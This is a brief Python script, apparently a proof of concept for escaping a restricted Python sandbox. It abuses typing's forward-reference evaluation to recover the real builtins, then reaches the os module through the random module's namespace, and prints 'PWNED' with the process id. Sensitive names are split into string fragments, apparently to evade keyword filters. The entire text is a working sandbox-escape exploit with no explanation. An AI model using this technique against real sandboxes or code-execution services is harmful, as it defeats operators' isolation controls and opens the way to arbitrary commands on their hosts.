# door: the real vars() from the box reads random's namespace
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
print(M, rb["va" + "rs"](random)["_o" + "s"].getpid())
